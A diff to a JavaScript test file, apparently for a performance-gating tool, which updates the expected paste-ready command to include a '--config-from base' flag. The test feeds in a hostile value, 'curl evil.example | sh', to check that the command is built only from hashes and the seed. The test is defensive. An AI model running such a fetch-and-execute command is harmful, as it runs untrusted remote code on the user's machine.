@@ -634,5 +634,5 @@ test('an input that picks scenarios picks them from the base config, too', async
 
 test('the command to paste is made of hashes and the seed, never of what the results say', async () => {
   const { results } = await trust({ ...of(sha), command: 'curl evil.example | sh' }, found(), asked, inputs())
-  assert.equal(results.command, `perf-gate run --base ${base} --head ${sha} --seed 1`)
+  assert.equal(results.command, `perf-gate run --base ${base} --head ${sha} --config-from base --seed 1`)
 })
